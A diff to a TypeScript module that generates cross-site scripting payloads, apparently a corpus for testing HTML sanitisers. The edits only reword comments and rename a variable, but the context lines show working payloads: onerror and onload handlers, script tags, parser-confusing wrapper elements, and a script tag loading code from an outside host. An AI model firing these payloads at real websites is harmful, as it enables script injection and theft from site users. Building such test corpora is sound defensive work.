@@ -4,7 +4,7 @@ const image = `<img src=x onerror=${code}>`;
 const script = `<script>${code}</script>`;
 const hidden = `&lt;img src=x onerror=${code}&gt;`;
 
-/** What ends the place that a text was put into. */
+/** Texts that break out of their context. */
 const ends = [
   '"',
   "'",
@@ -45,7 +45,7 @@ const follow = [
   `<script src=//${host}/§></script>`,
 ];
 
-/** Attributes that a text in an attribute would add to its element. */
+/** Attributes that a text in an attribute could add to its element. */
 const added = [
   'onmouseover',
   'onfocus',
@@ -61,8 +61,10 @@ const added = [
   ]),
 );
 
-/** Elements whose content parsers see differently: as text, as another language, or not at all. */
-const around = [
+/**
+ * Elements with content that parsers treat differently: as text, as another language, or ignored.
+ */
+const wrapping = [
   ['<noscript>', '</noscript>'],
   ['<template>', '</template>'],
   ['<style>', '</style>'],
@@ -101,9 +103,9 @@ const inside = [
   () => `<use href="data:image/svg+xml,<svg id=x onload=${code}>#x"/>`,
 ];
 
-/** Markup that means one thing where it is cleaned and another where it is shown. */
+/** Markup that is parsed differently where it is sanitised and where it is rendered. */
 export const nestings: readonly string[] = [
   ...ends.flatMap((end) => follow.map((rest) => end + rest)),
   ...added,
-  ...around.flatMap(([open, close]) => inside.map((fill) => open + fill(close) + close)),
+  ...wrapping.flatMap(([open, close]) => inside.map((fill) => open + fill(close) + close)),
 ];
